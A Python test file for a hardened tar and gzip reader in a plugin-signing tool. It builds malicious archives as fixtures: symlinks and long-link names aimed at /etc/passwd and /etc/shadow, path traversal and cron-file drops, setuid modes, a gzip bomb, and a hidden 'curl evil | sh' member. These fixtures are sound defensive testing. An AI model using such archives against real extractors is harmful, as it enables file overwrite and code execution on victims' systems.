"""The one tar reader (signery.host.tarball): every rule refused with the right reason and subject, real writers'
output accepted and listed as tarfile lists it, and no input that raises anything but a signery error."""

from __future__ import annotations

import gzip
import io
import json
import os
import stat
import struct
import subprocess
import tarfile
import zlib
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tarcraft import BLOCK, END, GNU, bundle, directory, gz, header, long_name, member, pad, pax, write

from signery.errors import MalformedError, Reason, SigneryError, UnsafeArchiveError
from signery.host.tarball import MAX_TRAILER, TarLimits, extract_tar, scan_tar
from signery.package import is_manifest_path, read_manifest
from support import require_tool

ID = "com.example.demo"


def refused(path: Path, reason: Reason = Reason.UNSAFE_ARCHIVE, **kw: object) -> UnsafeArchiveError | MalformedError:
    with pytest.raises(SigneryError) as e:
        scan_tar(path, **kw)  # type: ignore[arg-type]
    assert e.value.reason is reason, e.value.message
    assert isinstance(e.value, UnsafeArchiveError | MalformedError)
    return e.value


# -- the gzip stream: exactly one member, nothing after it -----------------------------------------------------------


def test_a_second_gzip_member_is_refused(tmp_path: Path) -> None:
    """The attack: the first member holds a clean bundle without its end marker; the second member a symlink to
    /etc/passwd. Python's tarfile (and signery before) stopped after the first member; GNU tar, bsdtar and Go read
    on and extract the link."""
    first = bundle()[: -len(END)]
    second = header(f"{ID}/passwd", type_=b"2", linkname=b"/etc/passwd", mode=0o777) + END
    path = tmp_path / "evil.tar.gz"
    path.write_bytes(gz(first) + gz(second))
    err = refused(path)
    assert err.subject == str(path) and "second gzip member" in err.message
    listed = subprocess.run(
        [require_tool("tar"), "-tzvf", str(path)], capture_output=True, check=False, text=True
    ).stdout
    assert "passwd -> /etc/passwd" in listed  # what GNU tar would extract: the reason for the rule
    # Also when the first member is a complete archive (a reader that ignores zero blocks reads on).
    path.write_bytes(gz(bundle()) + gz(second))
    assert "second gzip member" in refused(path).message


def test_bytes_after_the_gzip_member_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "trailing.tar.gz"
    path.write_bytes(gz(bundle()) + b"hello")
    err = refused(path)
    assert err.subject == str(path) and "not gzip data" in err.message
    path.write_bytes(gz(bundle()) + b"\x00" * 8)  # gzip(1) ignores trailing zeros; Go does not
    assert refused(path).subject == str(path)


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (b"", "not gzip"),
        (b"\x1f", "truncated"),
        (b"\x1f\x8b\x08", "truncated"),
        (b"\x1f\x8b\x08\x04" + bytes(6) + b"\xff", "extra field"),  # FEXTRA, length cut short
        (b"\x1f\x8b\x08\x04" + bytes(6) + b"\x10\x00abc", "extra field"),  # FEXTRA longer than the file
        (b"\x1f\x8b\x08\x08" + bytes(6) + b"name-without-end", "file name"),  # FNAME without its NUL
        (b"\x1f\x8b\x08\x10" + bytes(6) + b"comment", "comment"),
        (b"\x1f\x8b\x08\x02" + bytes(6) + b"\x00", "header CRC"),
        (b"\x1f\x8b\x07\x00" + bytes(6), "compression method"),
        (b"\x1f\x8b\x08\x20" + bytes(6), "reserved"),
        (b"\x1f\x8b\x08\x00" + bytes(6) + b"garbage", "corrupt"),
        (gz(bundle())[:-9], "truncated"),  # the trailer cut off
    ],
)
def test_damaged_gzip_is_malformed_not_a_traceback(tmp_path: Path, data: bytes, what: str) -> None:
    path = tmp_path / "bad.tar.gz"
    path.write_bytes(data)
    err = refused(path, Reason.MALFORMED)
    assert err.subject == str(path) and what in err.message


def test_gzip_header_fields_are_bounded_and_checked(tmp_path: Path) -> None:
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = bundle()
    raw = body.compress(stream) + body.flush()
    trailer = struct.pack("<II", zlib.crc32(stream), len(stream))
    head = b"\x1f\x8b\x08" + bytes([0x02 | 0x04 | 0x08 | 0x10]) + bytes(6)
    head += struct.pack("<H", 3) + b"xyz" + b"bundle.tar\x00" + b"a comment\x00"
    good = head + struct.pack("<H", zlib.crc32(head) & 0xFFFF)
    path = tmp_path / "fields.tar.gz"
    path.write_bytes(good + raw + trailer)
    assert len(scan_tar(path).members) == 3
    path.write_bytes(head + struct.pack("<H", (zlib.crc32(head) + 1) & 0xFFFF) + raw + trailer)
    assert "header CRC" in refused(path, Reason.MALFORMED).message
    long = b"\x1f\x8b\x08\x08" + bytes(6) + b"n" * 5000 + b"\x00"
    path.write_bytes(long + raw + trailer)
    assert "longer than" in refused(path, Reason.MALFORMED).message


# -- the tar stream: end marker and what follows it -------------------------------------------------------------------


def test_gnu_tar_record_padding_is_accepted(tmp_path: Path) -> None:
    padded = bundle() + bytes(10240 - len(bundle()) % 10240)
    assert len(scan_tar(write(tmp_path / "p.tar.gz", padded)).members) == 3


def test_data_after_the_end_marker_is_refused(tmp_path: Path) -> None:
    hidden = member(f"{ID}/hidden.sh", b"curl evil | sh", mode=0o755)
    err = refused(write(tmp_path / "after.tar.gz", bundle() + hidden))
    assert "after the end-of-archive marker" in err.message
    err = refused(write(tmp_path / "junk.tar.gz", bundle() + b"\x00" * 100 + b"x"))
    assert "after the end-of-archive marker" in err.message


def test_a_lone_zero_block_followed_by_a_member_is_refused(tmp_path: Path) -> None:
    stream = bundle()[: -len(END)] + bytes(BLOCK) + member(f"{ID}/late.txt", b"late") + END
    err = refused(write(tmp_path / "lone.tar.gz", stream))
    assert "lone zero block" in err.message


def test_too_much_padding_is_refused(tmp_path: Path) -> None:
    err = refused(write(tmp_path / "pad.tar.gz", bundle() + bytes(MAX_TRAILER + 2 * BLOCK)))
    assert "padding after the end" in err.message


@pytest.mark.parametrize(
    ("stream", "what"),
    [
        (bundle()[: -len(END)], "without its end-of-archive marker"),
        (bundle()[:-BLOCK], "single zero block"),
        (bundle()[: -len(END) - 100], "truncated"),
        (bundle()[: -len(END)] + pax({"mtime": "1"}) + END, "describes no member"),
    ],
)
def test_a_truncated_archive_is_malformed(tmp_path: Path, stream: bytes, what: str) -> None:
    err = refused(write(tmp_path / "cut.tar.gz", stream), Reason.MALFORMED)
    assert what in err.message and err.subject == str(tmp_path / "cut.tar.gz")


# -- header chains: one source for a member's name ---------------------------------------------------------------------


NAME = f"{ID}/server/run.sh"


@pytest.mark.parametrize(
    ("chain", "what"),
    [
        (pax({"path": NAME}) + long_name(f"{ID}/other.sh"), "more than one extended header"),
        (long_name(NAME) + pax({"path": f"{ID}/other.sh"}), "more than one extended header"),
        (long_name(NAME) + long_name(f"{ID}/other.sh"), "more than one extended header"),
        (pax({"path": NAME}) + pax({"path": f"{ID}/other.sh"}), "more than one extended header"),
        (pax({"mtime": "1"}) + long_name(NAME), "more than one extended header"),
    ],
)
def test_two_sources_for_a_name_are_refused(tmp_path: Path, chain: bytes, what: str) -> None:
    stream = bundle(chain + member("short", b"x"))
    err = refused(write(tmp_path / "names.tar.gz", stream))
    assert what in err.message and err.subject == NAME


def test_pax_linkpath_and_gnu_long_link_are_refused(tmp_path: Path) -> None:
    stream = bundle(pax({"linkpath": "/etc/passwd"}) + long_name("/etc/shadow", type_=b"K") + member(NAME, b"x"))
    err = refused(write(tmp_path / "links.tar.gz", stream))
    assert "linkpath" in err.message
    err = refused(write(tmp_path / "k.tar.gz", bundle(long_name("/etc/shadow", type_=b"K") + member(NAME, b"x"))))
    assert "long link name" in err.message and err.subject == NAME


def test_a_pax_global_header_is_refused(tmp_path: Path) -> None:
    err = refused(write(tmp_path / "global.tar.gz", bundle(pax({"path": "evil"}, type_=b"g") + member(NAME, b"x"))))
    assert "global header" in err.message and err.subject == "pax_global_header"


@pytest.mark.parametrize(
    "records",
    [
        {"hdrcharset": "BINARY"},
        {"GNU.sparse.map": "0,1"},
        {"GNU.sparse.name": f"{ID}/other"},
        {"SCHILY.xattr.security.capability": "x"},
        {"LIBARCHIVE.xattr.user.x": "eA=="},
        {"SCHILY.fflags": "schg"},
        {"comment": "hi"},
        {"linkpath": "x"},
    ],
)
def test_pax_keys_outside_the_allow_list_are_refused(tmp_path: Path, records: dict[str, str]) -> None:
    err = refused(write(tmp_path / "keys.tar.gz", bundle(pax(records) + member(NAME, b"x"))))
    assert next(iter(records)) in err.message


def _record(key: bytes, value: bytes) -> bytes:
    body = b" " + key + b"=" + value + b"\n"
    length = len(body) + 1
    while len(str(length)) + len(body) != length:
        length += 1
    return str(length).encode() + body


@pytest.mark.parametrize(
    ("data", "reason", "what"),
    [
        (b"13 path=abc\n", Reason.MALFORMED, "wrong length"),
        (b"11 path=abc\n", Reason.MALFORMED, "wrong length"),
        (b"x path=a\n", Reason.MALFORMED, "no decimal length"),
        (b"011 path=ab\n", Reason.MALFORMED, "no decimal length"),
        (b"7 =abc\n", Reason.MALFORMED, "no key"),
        (_record(b"mtime", b"1") + b"\x00\x00", Reason.MALFORMED, "no decimal length"),  # Python skips, Go fails
        (_record(b"size", b"x"), Reason.MALFORMED, "decimal"),
        (_record(b"uid", b"-1"), Reason.MALFORMED, "decimal"),
        (_record(b"size", b"+1"), Reason.MALFORMED, "decimal"),
        (_record(b"mtime", b"1e9"), Reason.MALFORMED, "time"),
        (_record(b"path", b""), Reason.UNSAFE_ARCHIVE, "to nothing"),
        (_record(b"mtime", b"1") + _record(b"mtime", b"2"), Reason.UNSAFE_ARCHIVE, "twice"),
        (_record(b"uname", b"a\x01b"), Reason.UNSAFE_ARCHIVE, "control character"),
        (_record(b"uname", b"\xff\xfe"), Reason.UNSAFE_ARCHIVE, "not UTF-8"),
    ],
)
def test_pax_records_must_parse_exactly(tmp_path: Path, data: bytes, reason: Reason, what: str) -> None:
    err = refused(write(tmp_path / "pax.tar.gz", bundle(pax(data) + member(NAME, b"x"))), reason)
    assert what in err.message


def test_pax_size_must_equal_the_header_size(tmp_path: Path) -> None:
    err = refused(write(tmp_path / "size.tar.gz", bundle(pax({"size": "1"}) + member(NAME, b"xy"))))
    assert "PAX size" in err.message and err.subject == NAME
    assert scan_tar(write(tmp_path / "same.tar.gz", bundle(pax({"size": "2"}) + member(NAME, b"xy"))))


def test_extended_headers_are_bounded(tmp_path: Path) -> None:
    err = refused(write(tmp_path / "big.tar.gz", bundle(pax({"uname": "u" * (70 << 10)}) + member(NAME, b"x"))))
    assert "PAX header of" in err.message
    err = refused(write(tmp_path / "biglong.tar.gz", bundle(long_name(f"{ID}/" + "a" * (70 << 10)) + member("x"))))
    assert "GNU long name of" in err.message


def test_long_names_from_pax_and_gnu_are_applied(tmp_path: Path) -> None:
    deep = f"{ID}/" + "/".join(["d" * 60] * 4) + "/file.txt"
    for chain in (pax({"path": deep}), long_name(deep)):
        listing = scan_tar(write(tmp_path / "long.tar.gz", bundle(chain + member("truncated-name", b"x"))))
        assert listing.members[-1].name == deep


# -- headers: checksums, numbers, magic, the prefix --------------------------------------------------------------------


def test_ustar_prefix_is_joined_as_every_reader_joins_it(tmp_path: Path) -> None:
    stream = bundle(member("run.sh", b"x", prefix=f"{ID}/server/bin".encode()))
    assert scan_tar(write(tmp_path / "prefix.tar.gz", stream)).members[-1].name == f"{ID}/server/bin/run.sh"


@pytest.mark.parametrize(
    ("block", "reason", "what"),
    [
        (member(NAME, b"x", checksum=1), Reason.MALFORMED, "checksum"),
        (member(NAME, b"x", magic=b"\x00" * 8), Reason.MALFORMED, "magic"),  # v7: no magic
        (member(NAME, b"x", magic=b"ustar\x00\x00\x00"), Reason.MALFORMED, "magic"),
        (member(NAME, b"x", fields={"size": b"1\x00garbage"}), Reason.MALFORMED, "plain octal"),
        (member(NAME, b"x", fields={"size": b"00000000+1 "}), Reason.MALFORMED, "plain octal"),
        (member(NAME, b"x", fields={"size": b"\x0000000000001"}), Reason.MALFORMED, "plain octal"),
        (member(NAME, b"x", fields={"size": b"\x80" + bytes(10) + b"\x01"}), Reason.UNSAFE_ARCHIVE, "base-256"),
        (member(NAME, b"x", fields={"uid": b"\xff" * 8}), Reason.UNSAFE_ARCHIVE, "base-256"),
        (member(NAME, b"x", fields={"devmajor": b"8 9"}), Reason.MALFORMED, "plain octal"),
        (member(NAME, b"x", magic=GNU, tail=b"00000000000\x00"), Reason.UNSAFE_ARCHIVE, "name prefix"),
        (member(NAME, b"x", tail=bytes(8) + b"tar\x00"), Reason.UNSAFE_ARCHIVE, "star"),
        (member(NAME, b"x")[:-1] + b"!", Reason.UNSAFE_ARCHIVE, "padding"),
    ],
)
def test_headers_are_read_strictly(tmp_path: Path, block: bytes, reason: Reason, what: str) -> None:
    err = refused(write(tmp_path / "hdr.tar.gz", bundle(block)), reason)
    assert what in err.message


# -- types, names, modes -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("block", "what"),
    [
        (header(f"{ID}/link", type_=b"2", linkname=b"/etc/passwd", mode=0o777), "symbolic link"),
        (header(f"{ID}/hard", type_=b"1", linkname=f"{ID}/plugin.json".encode()), "hard link"),
        (header(f"{ID}/dev", type_=b"3"), "character device"),
        (header(f"{ID}/blk", type_=b"4"), "block device"),
        (header(f"{ID}/fifo", type_=b"6"), "FIFO"),
        (header(f"{ID}/sparse", type_=b"S"), "sparse"),
        (member(f"{ID}/cont", b"x", type_=b"7"), "contiguous"),
        (header("label", type_=b"V"), "volume label"),
        (member(f"{ID}/solaris", b"x", type_=b"X"), "Solaris"),
        (member(f"{ID}/what", b"x", type_=b"Z"), "unknown type"),
        (member(f"{ID}/file/", b"x"), "ending in '/'"),
        (member(f"{ID}/old/", b"x", type_=b"\x00"), "ending in '/'"),
        (member(f"{ID}/x", b"x", linkname=b"/etc/passwd"), "link target"),
        (member(f"{ID}/dir/", b"data", type_=b"5", mode=0o755), "bytes of data"),
        (member(f"{ID}/../../escape", b"x"), "'..'"),
        (member("/etc/cron.d/evil", b"x"), "absolute"),
        (directory("/"), "absolute"),
        (member(f"{ID}/PLUGIN.json", b"x"), "duplicate"),
        (member(f"{ID}/plugin.json/x", b"x"), "under a file"),
        (member(b"\xff\xfe.txt", b"x"), "not UTF-8"),
        (directory("./") + directory("."), "extraction root"),
        (member("./", b"x"), "file member named"),
    ],
)
def test_members_other_than_files_and_directories_are_refused(tmp_path: Path, block: bytes, what: str) -> None:
    err = refused(write(tmp_path / "type.tar.gz", bundle(block)))
    assert what in err.message and err.subject


@pytest.mark.parametrize(
    ("block", "subject", "what"),
    [
        (member(f"{ID}/suid", b"x", mode=0o4755), f"{ID}/suid", "setuid"),
        (member(f"{ID}/sgid", b"x", mode=0o2755), f"{ID}/sgid", "setgid"),
        (directory(f"{ID}/tmp/", mode=0o1755), f"{ID}/tmp", "sticky"),
        (member(f"{ID}/ww", b"x", mode=0o666), f"{ID}/ww", "world-writable"),
        (directory(f"{ID}/wwd/", mode=0o777), f"{ID}/wwd", "world-writable"),
        (member(f"{ID}/none", b"x", mode=0o000), f"{ID}/none", "not readable by its owner"),
        (member(f"{ID}/wo", b"x", mode=0o200), f"{ID}/wo", "not readable by its owner"),
        (directory("./", mode=0o777), ".", "world-writable"),
        (member(f"{ID}/gx", b"x", mode=0o654), f"{ID}/gx", "not by its owner"),
        (member(f"{ID}/ox", b"x", mode=0o645), f"{ID}/ox", "not by its owner"),
        (member(f"{ID}/typed", b"x", mode=0o120644), f"{ID}/typed", "another file type"),
    ],
)
def test_dangerous_or_unusable_modes_are_refused(tmp_path: Path, block: bytes, subject: str, what: str) -> None:
    err = refused(write(tmp_path / "mode.tar.gz", bundle(block)))
    assert what in err.message and err.subject == subject


def test_ordinary_modes_are_accepted(tmp_path: Path) -> None:
    stream = bundle(
        member(f"{ID}/ro", b"x", mode=0o444),
        member(f"{ID}/group", b"x", mode=0o664),
        member(f"{ID}/typed", b"x", mode=0o100600),
        directory(f"{ID}/typed-dir/", mode=0o40775),
        directory(f"{ID}/bare-dir/", mode=0o644),  # what tarfile.TarInfo writes for a directory by default
    )
    assert len(scan_tar(write(tmp_path / "modes.tar.gz", stream)).members) == 8


# -- bounds ------------------------------------------------------------------------------------------------------------


def test_bounds_are_checked_before_the_member_is_judged(tmp_path: Path) -> None:
    # A link whose declared size is over the limit: the size is reported, the link never looked at.
    stream = bundle(header(f"{ID}/link", type_=b"2", linkname=b"/etc/passwd", size=5 << 20))
    err = refused(write(tmp_path / "b.tar.gz", stream), limits=TarLimits(max_entry_size=1 << 20))
    assert "expand" in err.message
    many = bundle(*(member(f"{ID}/f{i}", b"x") for i in range(10)))
    assert "more than 5 members" in refused(write(tmp_path / "m.tar.gz", many), limits=TarLimits(max_entries=5)).message
    err = refused(write(tmp_path / "t.tar.gz", bundle()), limits=TarLimits(max_total_size=10))
    assert "more than 10 bytes" in err.message


def test_gzip_bomb_is_refused_by_ratio(tmp_path: Path) -> None:
    path = tmp_path / "bomb.tar.gz"
    with gzip.open(path, "wb", compresslevel=9) as fh:
        fh.write(bundle()[: -len(END)] + header(f"{ID}/zeros", size=100 << 20))
        for _ in range(100):
            fh.write(bytes(1 << 20))
        fh.write(END)
    assert path.stat().st_size < (1 << 20)
    assert "200:1" in refused(path, limits=TarLimits(ratio_floor=1 << 20)).message


# -- real writers' output is accepted, and listed as tarfile lists it --------------------------------------------------


def _tree(root: Path) -> Path:
    src = root / ID
    (src / "server" / "dist").mkdir(parents=True)
    (src / "assets" / ("d" * 110)).mkdir(parents=True)
    (src / "plugin.json").write_text(json.dumps({"id": ID, "version": "1.0.0"}))
    exe = src / "server" / "dist" / "plugin-linux-amd64"
    exe.write_bytes(b"\x7fELF" * 100)
    exe.chmod(0o755)
    (src / "assets" / ("d" * 110) / ("f" * 120)).write_text("long name")
    (src / "assets" / "café.txt").write_text("utf-8 name")
    for p in [src, *src.rglob("*")]:
        if p.is_dir():
            p.chmod(0o755)
    return src


def _tarfile_view(path: Path) -> list[tuple[str, bool, int, int]]:
    with tarfile.open(path, "r:gz") as tf:
        return [(m.name.removeprefix("./"), m.isdir(), m.size, m.mode) for m in tf.getmembers() if m.name != "."]


def _signery_view(path: Path) -> list[tuple[str, bool, int, int]]:
    return [(m.name, m.is_dir, m.size, m.mode) for m in scan_tar(path).members]


@pytest.mark.parametrize("fmt", ["gnu", "posix", "oldgnu", "default"])
def test_gnu_tar_output_is_accepted(tmp_path: Path, fmt: str) -> None:
    _tree(tmp_path)
    path = tmp_path / f"{fmt}.tar.gz"
    args = [require_tool("tar"), "-czf", str(path), "-C", str(tmp_path), ID]
    if fmt != "default":
        args.insert(1, f"--format={fmt}")
    subprocess.run(args, check=True, env={**os.environ, "LC_ALL": "C.UTF-8"})
    assert _signery_view(path) == _tarfile_view(path)
    assert f"{ID}/server/dist/plugin-linux-amd64" in {m.name for m in scan_tar(path).members}


def test_gnu_tar_output_of_a_directory_with_dot(tmp_path: Path) -> None:
    src = _tree(tmp_path)
    path = tmp_path / "dot.tar.gz"
    subprocess.run([require_tool("tar"), "-czf", str(path), "-C", str(src), "."], check=True)
    assert _signery_view(path) == _tarfile_view(path)
    assert "plugin.json" in {m.name for m in scan_tar(path).members}


@pytest.mark.parametrize("fmt", [tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT, tarfile.PAX_FORMAT])
def test_python_tarfile_output_is_accepted(tmp_path: Path, fmt: int) -> None:
    src = _tree(tmp_path)
    path = tmp_path / "py.tar.gz"
    with tarfile.open(path, "w:gz", format=fmt) as tf:
        for p in sorted([src, *src.rglob("*")]):
            name = p.relative_to(tmp_path).as_posix()
            if fmt == tarfile.USTAR_FORMAT and len(name.encode()) > 200:
                continue
            tf.add(p, arcname=name, recursive=False)
        info = tarfile.TarInfo(f"{ID}/user-é")
        info.size, info.uname = 2, "é"
        tf.addfile(info, io.BytesIO(b"hi"))
    assert _signery_view(path) == _tarfile_view(path)


def test_extraction_keeps_only_the_owner_exec_bit(tmp_path: Path) -> None:
    stream = bundle(
        member(f"{ID}/owner-x", b"x", mode=0o700),
        member(f"{ID}/group-x", b"x", mode=0o750),
        member(f"{ID}/ro", b"x", mode=0o400),
        directory(f"{ID}/private/", mode=0o700),
    )
    path = write(tmp_path / "modes.tar.gz", stream)
    listing = scan_tar(path)
    dest = tmp_path / "out"
    dest.mkdir()
    files = extract_tar(path, dest, listing, root=ID)
    modes = {p.relative_to(dest).as_posix(): stat.S_IMODE(p.stat().st_mode) for p in dest.rglob("*")}
    umask = os.umask(0)
    os.umask(umask)
    expect = {
        "plugin.json": 0o644,
        "server": 0o755,
        "server/plugin-linux-amd64": 0o755,
        "owner-x": 0o755,
        "group-x": 0o755,
        "ro": 0o644,
        "private": 0o755,
    }
    assert modes == {k: v & ~umask for k, v in expect.items()}
    assert set(files) == {k for k in expect if k not in ("server", "private")}


def test_deep_nesting_in_plugin_json_is_malformed_naming_it(tmp_path: Path) -> None:
    stream = bundle()[: -len(END)]
    deep = b'{"id": "x", "version": "1.0.0", "a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    stream = directory("p/") + member("p/plugin.json", deep) + END
    with pytest.raises(MalformedError) as e:
        read_manifest(write(tmp_path / "deep.tar.gz", stream))
    assert e.value.subject == f"{tmp_path / 'deep.tar.gz'}:p/plugin.json" and "nested" in e.value.message


def test_capture_keeps_small_manifests_only(tmp_path: Path) -> None:
    stream = bundle(member(f"{ID}/manifest.yml", b"x" * 2000))
    listing = scan_tar(write(tmp_path / "c.tar.gz", stream), capture=is_manifest_path, capture_max=1000)
    assert set(listing.manifests) == {f"{ID}/plugin.json"}


# -- property: whatever the bytes, a listing or a signery error ------------------------------------------------------


_VALID = bundle(
    pax({"path": f"{ID}/" + "p" * 120, "mtime": "1700000000.5"}) + member("x", b"pax named"),
    long_name(f"{ID}/" + "g" * 120) + member("x", b"gnu named"),
    member("run.sh", b"#!/bin/sh\n", prefix=f"{ID}/bin".encode(), mode=0o755),
)


def _check_any(path: Path, dest: Path) -> None:
    try:
        listing = scan_tar(path, limits=TarLimits(max_total_size=1 << 20))
    except SigneryError:
        return
    dest.mkdir()
    extract_tar(path, dest, listing)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    data=st.data(),
    compressed=st.booleans(),
)
def test_mutations_raise_only_signery_errors(
    tmp_path_factory: pytest.TempPathFactory, data: st.DataObject, compressed: bool
) -> None:
    raw = bytearray(gz(_VALID) if compressed else _VALID)
    for _ in range(data.draw(st.integers(1, 4))):
        op = data.draw(st.sampled_from(["flip", "set", "cut", "insert"]))
        pos = data.draw(st.integers(0, len(raw) - 1))
        if op == "flip":
            raw[pos] ^= 1 << data.draw(st.integers(0, 7))
        elif op == "set":
            raw[pos] = data.draw(st.integers(0, 255))
        elif op == "cut":
            del raw[pos : pos + data.draw(st.integers(1, 600))]
        else:
            raw[pos:pos] = data.draw(st.binary(min_size=1, max_size=600))
        if not raw:
            raw = bytearray(b"\x1f")
    root = tmp_path_factory.mktemp("mut")
    path = root / "m.tar.gz"
    path.write_bytes(bytes(raw) if compressed else gz(bytes(raw)))
    _check_any(path, root / "out")


def test_the_valid_fixture_of_the_property_is_valid(tmp_path: Path) -> None:
    names = {m.name for m in scan_tar(write(tmp_path / "v.tar.gz", _VALID)).members}
    assert {f"{ID}/" + "p" * 120, f"{ID}/" + "g" * 120, f"{ID}/bin/run.sh"} <= names
    assert pad(b"x") == b"x" + bytes(511)
